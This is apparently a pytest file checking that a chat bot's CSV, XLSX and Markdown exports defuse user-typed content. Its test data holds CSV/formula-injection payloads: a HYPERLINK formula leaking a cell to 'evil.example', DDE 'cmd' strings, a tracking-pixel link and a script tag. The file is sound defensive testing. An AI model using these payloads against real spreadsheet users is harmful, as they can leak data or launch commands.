"""/export's files are safe to open: no formula, no broken workbook, no live Markdown, and
they are made off the event loop."""

from __future__ import annotations

import csv
import io
import re
import threading
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest
from aiogram.methods import SendDocument
from markdown_it import MarkdownIt

from bot.core import sheets
from bot.core.scoring import Answer, score_round
from bot.core.sheets import Cell, Table, to_csv, to_xlsx
from bot.domain import CRITERIA, CUSTOMER, TEAM, Phase, RoundStatus, Stage
from bot.i18n import make_i18n
from bot.views import export as export_views
from bot.views.results import Results
from storage.models import Round, RoundItem, Workshop
from tests.harness import Harness
from tests.test_rating import Team
from tests.test_results import closed_round

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"Open")'
# (typed text, whether a spreadsheet would take it for a formula)
TEXTS = [
    (HYPERLINK, True),
    ("+1+cmd|' /C calc'!A0", True),
    ("-2+3+cmd|' /C calc'!A0", True),
    ("@SUM(1+1)*cmd|' /C calc'!A0", True),
    ("\t=1+1", True),
    ("\r=1+1", True),
    ("Phone line", False),
    ("Call back within 30 min - as promised = fair", False),
    ("Доставка курьером", False),
    ("", False),
]
# Every character XML 1.0 cannot hold, and a lone surrogate (UTF-8 cannot hold that).
ILLEGAL = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"] + ["\ufffe", "\ud800"]


def one_row(text: str) -> Table:
    """A row as the exports make them: user text among our own numbers, one negative."""
    return ["#", "Touchpoint", "Gap", "Raters"], [[2, text, -1.5, 3]]


def xlsx_cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def formulas(data: bytes) -> list[str]:
    """The formula elements in a workbook's sheets, read from the file itself."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        xml = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    return [part for sheet in xml for part in ("<f>", "<f ") if part in sheet]


@pytest.mark.parametrize(("text", "formula"), TEXTS)
@pytest.mark.parametrize("locale", ["en", "ru"])
def test_a_csv_text_cell_never_starts_a_formula(text: str, formula: bool, locale: str) -> None:
    raw = to_csv(one_row(text), locale).decode("utf-8-sig")
    (head, row) = list(csv.reader(io.StringIO(raw), delimiter=";" if locale == "ru" else ","))
    assert head == ["#", "Touchpoint", "Gap", "Raters"]
    assert row[1] == ("'" + text if formula else text)
    # Our own numbers are numbers still, the negative one too.
    assert row[0] == "2" and row[3] == "3"
    assert row[2] == ("-1,5" if locale == "ru" else "-1.5")


@pytest.mark.parametrize(("text", "formula"), TEXTS)
def test_an_xlsx_text_cell_is_a_string_never_a_formula(text: str, formula: bool) -> None:
    data = to_xlsx([("Touchpoints", one_row(text))])
    assert formulas(data) == []
    cells = {c.coordinate: c for c in xlsx_cells(data)}
    if text:
        typed = cells["B2"]
        assert typed.data_type == "s"
        # Exactly as typed (XML reads a carriage return back as a line feed).
        assert typed.value == text.replace("\r", "\n")
        # Marked text: Excel keeps it text even when someone edits the cell.
        assert typed.quotePrefix is formula
    assert cells["A2"].value == 2 and cells["D2"].value == 3
    assert cells["C2"].value == -1.5 and cells["C2"].data_type == "n"


@pytest.mark.parametrize("char", ILLEGAL, ids=[f"U+{ord(c):04X}" for c in ILLEGAL])
def test_control_characters_are_taken_out_of_every_format(char: str) -> None:
    text = f"Call{char} back"
    table: Table = (["Action", f"Owner{char}"], [[text]])
    cells = xlsx_cells(to_xlsx([(f"Plan{char}", table)]))
    assert [c.value for c in cells if c.value] == ["Action", "Owner", "Call back"]
    raw = to_csv(table, "en").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(raw))) == [["Action", "Owner"], ["Call back"]]


class Planted(Team):
    """A team whose ideas (anyone's, a customer's too) carry a formula and Markdown."""

    ideas = HYPERLINK + "\n[x](http://evil.example) ![](http://track.example/p.png) <b>x</b>"

    async def workshop_in_review(self, ideas: str = ideas) -> Any:
        return await super().workshop_in_review(ideas)


@pytest.fixture
async def planted(harness: Harness) -> Team:
    return await closed_round(harness, Planted(harness))


def documents(team: Team) -> dict[str, bytes]:
    """The exported files by what they hold: "xlsx", "report.md", "wheel.png"…"""
    docs = team.h.session.of(SendDocument)
    return {
        re.sub(r"^touchwheel-round-\d+[-.]", "", d.document.filename): d.document.data
        for d in docs
    }


async def test_planted_formulas_come_back_from_export_as_text(planted: Team) -> None:
    action = "@SUM(1+1)*cmd|' /C calc'!A0"
    await planted.h.say(planted.alice, planted.chat, f"/action 1 {action}")
    await planted.h.say(planted.alice, planted.chat, "/export")
    files = documents(planted)
    assert formulas(files["xlsx"]) == []
    cells = xlsx_cells(files["xlsx"])
    planted_cells = [c for c in cells if c.value in (HYPERLINK, action)]
    assert planted_cells and all(c.data_type == "s" and c.quotePrefix for c in planted_cells)
    rows = list(csv.reader(io.StringIO(files["touchpoints.csv"].decode("utf-8-sig"))))
    first = next(row for row in rows if row[0] == "1")
    assert first[1] == "'" + HYPERLINK and "'" + action in first
    answers = list(csv.reader(io.StringIO(files["answers.csv"].decode("utf-8-sig"))))
    assert {row[2] for row in answers[1:] if row[1] == "1"} == {"'" + HYPERLINK}


async def test_a_control_character_in_an_action_does_not_break_export(closed: Team) -> None:
    await closed.h.say(closed.alice, closed.chat, "/action 2 Call\x07 back\x1b today")
    await closed.h.say(closed.alice, closed.chat, "/export")
    files = documents(closed)
    expected = {"xlsx", "touchpoints.csv", "answers.csv", "report.md", "wheel.png"}
    assert set(files) == expected
    values = [c.value for c in xlsx_cells(files["xlsx"])]
    assert "Call back today" in values


@pytest.fixture
async def closed(harness: Harness) -> Team:
    return await closed_round(harness)


def tokens(markdown: str) -> set[str]:
    parser = MarkdownIt("commonmark").enable("table")
    found = set()
    for token in parser.parse(markdown):
        found.add(token.type)
        found.update(child.type for child in token.children or [])
    return found


async def test_the_report_shows_typed_markdown_and_html_literally(planted: Team) -> None:
    action = "**Fix** it: [help](http://evil.example/a) `now` <script>x</script>"
    await planted.h.say(planted.alice, planted.chat, f"/action 2 {action}")
    await planted.h.say(planted.alice, planted.chat, "/export")
    report = documents(planted)["report.md"].decode()
    made = tokens(report)
    assert not made & {"link_open", "image", "html_inline", "html_block", "code_inline"}
    html = MarkdownIt("commonmark").enable("table").render(report)
    assert "<a " not in html and "<img" not in html and "<script" not in html
    # The text reads as typed.
    assert "[x](http://evil.example) ![](http://track.example/p.png) &lt;b&gt;x&lt;/b&gt;" in html
    assert "**Fix** it: [help](http://evil.example/a) `now` &lt;script&gt;" in html
    assert "table_open" in made and "strong_open" in made  # our own Markdown still works


async def test_export_is_built_off_the_event_loop(
    closed: Team, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The tables, the CSVs, the report and the workbook (seconds for a big round) are
    made in another thread (the render worker's, with `render.workers = 0`)."""
    threads: dict[str, int] = {}

    def watched(name: str, real: Callable[..., Any]) -> Callable[..., Any]:
        def run(*args: Any, **kwargs: Any) -> Any:
            threads[name] = threading.get_ident()
            return real(*args, **kwargs)

        return run

    for module, name in [
        (sheets, "to_xlsx"),
        (sheets, "to_csv"),
        (export_views, "answer_table"),
        (export_views, "report"),
    ]:
        monkeypatch.setattr(module, name, watched(name, getattr(module, name)))
    await closed.h.say(closed.alice, closed.chat, "/export")
    assert len(documents(closed)) == 5
    assert set(threads) == {"to_xlsx", "to_csv", "answer_table", "report"}
    assert threading.get_ident() not in threads.values()


def test_cells_keep_their_types() -> None:
    """None stays an empty cell; ints and floats stay numbers; headers are bold."""
    table: tuple[list[str], list[list[Cell]]] = (["a", "b"], [[None, 1], [2.5, "x"]])
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx([("S", table)])))
    sheet = book["S"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["a", "b"],
        [None, 1],
        [2.5, "x"],
    ]
    assert sheet["A1"].font.bold


def test_the_reports_gap_section_shows_typed_markdown_literally() -> None:
    """Customers' view adds a gap section to the report, with the touchpoints' text."""
    now = datetime.now(UTC)
    texts = ["[x](http://evil.example) chat", "![](http://track.example/p.png) <b>x</b>"]
    items = tuple(RoundItem(n + 1, 100 + n, n + 1, t, Stage.DURING) for n, t in enumerate(texts))
    answers = tuple(
        Answer(100 + n, rater, criterion, value, source)
        for n in range(2)
        for rater, value, source in [(1, 9, TEAM), (2, 2, CUSTOMER)]
        for criterion in CRITERIA
    )
    results = Results(
        ws=Workshop(1, -1, "Topic", 1, "en", Phase.RESULTS, "token", None, now, None, None),
        rnd=Round(1, 1, 1, "token", RoundStatus.CLOSED, now, now, now, None, True),
        items=items,
        score=score_round([i.touchpoint_id for i in items], answers, customer_min=1),
        answers=answers,
        previous={},
        previous_roundness=None,
        chat_title="Team",
        zone="UTC",
        customer_min=1,
    )
    assert results.with_customers
    i18n = make_i18n("en")
    with i18n.context(), i18n.use_locale("en"):
        report = export_views.report(results, [])
    gaps = report[report.index("Customers and the team") :]
    assert "the team gives 9.0, customers 2.0" in gaps
    assert not tokens(report) & {"link_open", "image", "html_inline", "html_block"}
    html = MarkdownIt("commonmark").enable("table").render(gaps)
    assert "[x](http://evil.example) chat" in html and "&lt;b&gt;x&lt;/b&gt;" in html
